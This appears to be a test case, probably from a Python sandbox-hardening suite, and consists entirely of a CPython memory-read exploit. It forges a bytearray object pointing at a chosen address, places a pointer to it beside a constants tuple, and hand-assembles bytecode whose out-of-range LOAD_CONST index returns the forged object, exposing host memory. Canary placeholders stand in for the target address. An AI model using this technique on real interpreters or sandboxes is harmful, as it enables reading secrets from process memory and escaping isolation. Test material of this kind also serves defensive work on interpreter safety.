# what: reads the host's memory with an object that bytecode takes from a place outside its constants
import dis
import struct

# A bytearray made by hand whose content is the host's memory.
size = bytearray.__basicsize__
fields = [1 << 20, id(bytearray), CANARY_SIZE, CANARY_SIZE + 1, CANARY_ADDRESS, CANARY_ADDRESS, 0]
fake = struct.pack("7Q", *fields) + bytes(64)


def template():
    return 1


def constant_at(distance):
    code = bytes([dis.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([dis.opmap["EXTENDED_ARG"], distance >> shift & 255])
    return code + bytes([dis.opmap["LOAD_CONST"], distance & 255, dis.opmap["RETURN_VALUE"], 0])


head = bytes.__basicsize__ - 1  # where the content of bytes begins
first = tuple.__basicsize__  # where the items of a tuple begin
consts = tuple([None])
for _ in range(10_000):
    pointer = struct.pack("Q", id(fake) + head) + bytes(1000)
    if id(pointer) > id(consts):
        break
    consts = tuple([pointer, None])
    if id(pointer) > id(consts):
        break
distance = (id(pointer) + head - id(consts) - first) // 8
code = template.__code__.replace(co_consts=consts, co_code=constant_at(distance))
keeps = code.co_consts
if keeps is not consts:
    distance = (id(pointer) + head - id(keeps) - first) // 8
    code = template.__code__.replace(co_consts=keeps, co_code=constant_at(distance))
template.__code__ = code
bytes(template())
